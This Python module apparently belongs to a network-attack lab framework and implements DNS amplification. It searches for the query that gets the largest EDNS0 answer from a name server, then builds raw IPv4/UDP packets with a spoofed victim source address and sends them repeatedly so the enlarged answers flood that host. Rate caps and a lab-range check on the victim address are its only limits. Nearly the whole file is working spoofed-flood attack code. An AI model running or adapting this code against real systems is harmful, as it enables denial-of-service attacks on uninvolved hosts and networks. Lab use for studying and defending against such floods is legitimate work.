"""DNS amplification in miniature: short questions that have long answers, again and again.

A name with a long answer is looked for first. The questions that follow carry the victim's address:
another host of the lab where the topology names one, else this host's own.
"""

from __future__ import annotations

import socket
import struct
from ipaddress import ip_address

from common import PeerError, Session, emit, main, word
from common_lab import LAB
from common_syn import checksum

MAX_RATE_S, MAX_QUERIES = 60.0, 600
CANDIDATES, ANSWER_S = 6, 0.6
SOURCE_PORTS = (20_000, 32_000)


def act(session: Session) -> None:
    """Amplify; the effect is that the answers are far larger than the questions."""
    factor, sent = 0.0, 0
    try:
        query, answer_bytes = _best(session)
        factor = answer_bytes / len(query)
        sent = _flood(session, query)
    finally:
        emit("effect", success=sent > 0 and factor >= 2, factor=round(factor, 2), queries=sent)


def _best(session: Session) -> tuple[bytes, int]:
    """The question with the longest answer of a few, and that answer's bytes."""
    best, most = b"", 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((session.peer["address"], session.port))
        sock.settimeout(ANSWER_S)
        for _ in range(CANDIDATES):
            query = _query(session)
            sock.send(query)
            try:
                answer = sock.recv(65_536)
            except TimeoutError:
                continue
            emit("candidate", bytes=len(answer))
            if len(answer) > most:
                best, most = query, len(answer)
            if not session.rest(0.1):
                break
    if not best:
        raise PeerError("the name server does not answer")
    return best, most


def _query(session: Session) -> bytes:
    from dnslib import EDNS0, DNSRecord

    rng = session.rng
    record = DNSRecord.question(f"{word(rng)}.{word(rng)}.lab", str(session.params["variant"]))
    record.header.id = rng.getrandbits(16)
    record.add_ar(EDNS0(udp_len=4_096))
    return bytes(record.pack())


def _flood(session: Session, query: bytes) -> int:
    """Send the question with the victim's address on it; how often."""
    rng, sent = session.rng, 0
    target = (str(session.peer["address"]), session.port)
    victim = _victim(session)
    rate_s = min(float(session.params["rate_s"]), MAX_RATE_S)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(min(int(session.params["queries"]), MAX_QUERIES)):
            one = struct.pack("!H", rng.getrandbits(16)) + query[2:]
            raw.sendto(packet(victim, rng.randint(*SOURCE_PORTS), target, one), (target[0], 0))
            sent += 1
            if not session.rest_s(rng.expovariate(rate_s)):
                break
    return sent


def _victim(session: Session) -> str:
    """Address of the host that gets the answers; never one outside the lab."""
    if session.params.get("victim"):
        victim = socket.gethostbyname(str(session.params["victim"]))
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect((session.peer["address"], 9))
            victim = str(probe.getsockname()[0])
    if ip_address(victim) not in LAB and not ip_address(victim).is_loopback:
        raise PeerError(f"{victim} is not in the lab")
    return victim


def packet(source: str, sport: int, target: tuple[str, int], payload: bytes) -> bytes:
    """An IPv4 packet with a UDP datagram; the kernel fills in length, id and header checksum."""
    length = 8 + len(payload)
    ends = socket.inet_aton(source) + socket.inet_aton(target[0])
    udp = struct.pack("!HHHH", sport, target[1], length, 0)
    summed = ends + struct.pack("!HH", 17, length) + udp + payload + b"\0" * (length % 2)
    udp = udp[:6] + struct.pack("!H", checksum(summed) or 0xFFFF)
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, 17, 0) + ends + udp + payload


if __name__ == "__main__":
    main(None, act)
